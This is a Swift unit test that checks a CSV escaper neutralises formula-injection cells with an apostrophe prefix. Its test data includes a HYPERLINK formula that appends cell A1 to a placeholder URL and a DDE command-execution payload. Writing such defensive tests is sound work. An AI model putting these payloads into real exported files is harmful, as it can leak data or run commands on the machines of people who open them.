import Testing

@testable import PlacewiseReport

@Suite("No CSV cell a spreadsheet would run as a formula (issue 9 item 4)")
struct FormulaGuardTests {
  @Test(
    "cells starting =, +, -, @, tab or CR get an apostrophe unless plain numbers",
    arguments: [
      ("=HYPERLINK(\"http://x\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\""),
      ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(1+1)", "'@SUM(1+1)"),
      ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("-2", "-2"), ("+1.5", "+1.5"), ("-1e5", "-1e5"), ("Oak", "Oak"),
      ("", ""), ("-", "'-"),
    ])
  func formulaCellsAreNeutralised(field: String, written: String) {
    #expect(CSVText.escape(field) == written)
  }
}
